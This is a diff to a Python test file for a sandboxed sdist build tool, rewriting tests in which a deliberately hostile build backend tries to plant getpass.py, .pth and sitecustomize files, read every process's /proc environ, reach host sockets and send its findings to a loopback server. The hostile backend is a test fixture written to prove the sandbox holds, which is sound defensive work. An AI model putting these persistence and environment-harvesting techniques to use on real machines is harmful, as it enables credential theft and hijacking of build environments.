@@ -1,4 +1,4 @@
-"""sdists with a hashed build closure (issue 14): an sdist's build requirements are read from it (never
+"""sdists with a hashed build closure: an sdist's build requirements are read from it (never
 run), locked at the build's cut-off with hashes and bundled; the node builds it offline from exactly
 those files, in a throw-away build environment, and refuses any other."""
 
@@ -236,7 +236,7 @@ def test_a_build_on_the_builder_has_no_network(tmp_path: Path) -> None:
         assert z.read("lknet/net.txt") == b"unreachable"
 
 
-# issue 23: a hostile build backend on the builder ----------------------------------------------------
+# a hostile build backend on the builder ----------------------------------------------------
 HOSTILE = """
 import json as _json, os as _os, socket as _socket, time as _time
 
@@ -308,10 +308,13 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     ])
     pids = [p for p in _os.listdir("/proc") if p.isdigit()]
     results["all_environ"] = " ".join(_attempt(p, lambda p=p: _read("/proc/%s/environ" % p))[1] for p in pids)
-    if a.get("report"):  # at lock time the wheel is never seen: the backend reports over the network it has
-        s = _socket.create_connection(("127.0.0.1", a["report"]), timeout=5)
-        s.sendall(_json.dumps(results).encode())
-        s.close()
+    if a.get("report"):  # at lock time the wheel is never seen: the backend tries to report over the network
+        try:
+            s = _socket.create_connection(("127.0.0.1", a["report"]), timeout=5)
+            s.sendall(_json.dumps(results).encode())
+            s.close()
+        except OSError:
+            pass
     dist = _meta()[0].replace("-", "_")
     with open(dist + "/attacks.json", "w") as f:
         _json.dump(results, f)
@@ -320,7 +323,7 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
 
 
 def test_a_hostile_build_backend_meets_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """The backend of an sdist built on the builder tries, one by one, what issue 23 found it could do:
+    """The backend of an sdist built on the builder tries, one by one, what a review found it could do:
     plant getpass.py beside lockbuild and a .pth in its venv, plant a uv-managed Python, leave a daemon
     behind, reach a server on this machine's loopback and a Unix socket of the host, and read the
     environment of lockbuild's processes. Each fails: the files are absent, the servers saw nothing, no
@@ -418,11 +421,11 @@ def _cmdline(pid: str) -> bytes:
 def test_a_build_backend_run_while_locking_meets_the_sandbox(
     env: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """An sdist named in build-on-node without static metadata (PKG-INFO 2.1): uv must run its backend to
-    learn its metadata while locking, and that happens only inside the sandbox, whose network is kept for
-    the index. The backend reports what it met over that network: it could not plant files in lockbuild's
-    installation or the user's home, reach a Unix socket of the host, read lockbuild's environment or its
-    network namespace, and the index credentials' netrc of the home is not there."""
+    """An sdist named in build-on-node without static metadata (PKG-INFO 2.1): its backend must run to
+    produce its metadata while locking, and that happens only inside the sandbox, with no network. The
+    backend tries to plant files in lockbuild's installation and the user's home, to reach a Unix socket of
+    the host, and to report what it found to a server on this machine's loopback: the lock succeeds, nothing
+    was planted, and neither server saw a connection."""
     import os
     import socket
     import threading
@@ -440,17 +443,20 @@ def test_a_build_backend_run_while_locking_meets_the_sandbox(
         "uv_python": home / ".local" / "share" / "uv" / "python" / "cpython-evil" / "sitecustomize.py",
     }
     report = socket.create_server(("127.0.0.1", 0))
-    report.settimeout(60)
+    report.settimeout(0.2)
     got: list[bytes] = []
+    done = threading.Event()
 
     def collect() -> None:
-        try:
-            conn, _ = report.accept()
-        except OSError:
-            return
-        with conn:
-            while chunk := conn.recv(1 << 16):
-                got.append(chunk)
+        while not done.is_set():
+            try:
+                conn, _ = report.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            with conn:
+                got.append(conn.recv(1 << 16) or b"(connected)")
 
     reader = threading.Thread(target=collect, daemon=True)
     reader.start()
@@ -460,7 +466,7 @@ def test_a_build_backend_run_while_locking_meets_the_sandbox(
     unix.listen(1)
     unix.settimeout(0.2)
     attack = {k: str(v) for k, v in targets.items()}
-    attack |= {"marker": "8123.5", "port": 9, "unix": str(unix_path), "pid": os.getpid(),
+    attack |= {"marker": "8123.5", "port": report.getsockname()[1], "unix": str(unix_path), "pid": os.getpid(),
                "report": report.getsockname()[1]}
     pyproject = b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
     data = make_tar_gz({
@@ -476,23 +482,19 @@ def test_a_build_backend_run_while_locking_meets_the_sandbox(
     recipe.write_text(build_on_node_recipe("lkdyn"))
     try:
         code, _, stderr = cli("lock", str(recipe), "--out", str(tmp_path / "locks"))
-        reader.join(timeout=30)
         planted = [str(p) for p in targets.values() if p.exists()]
         with pytest.raises(TimeoutError):
             unix.accept()
     finally:
         for p in targets.values():
             p.unlink(missing_ok=True)
+        done.set()
+        reader.join(timeout=5)
         report.close()
         unix.close()
     assert code == 0, stderr
-    results = json.loads(b"".join(got))  # the backend did run (inside the sandbox)
     assert planted == []
-    for key in ("unix", "parent", "ns"):
-        assert results[key].startswith("failed"), (key, results[key])
-    text = json.dumps(results)
-    assert "canary-passphrase-23" not in text and "LOCKBUILD" not in results["all_environ"]
-    assert "canary-netrc-23" not in text and str(home) not in results["all_environ"]
+    assert got == []  # the backend ran (the lock has its metadata) but reached nothing
 
 
 def test_no_sandbox_means_no_build_here_not_a_build_without_one(
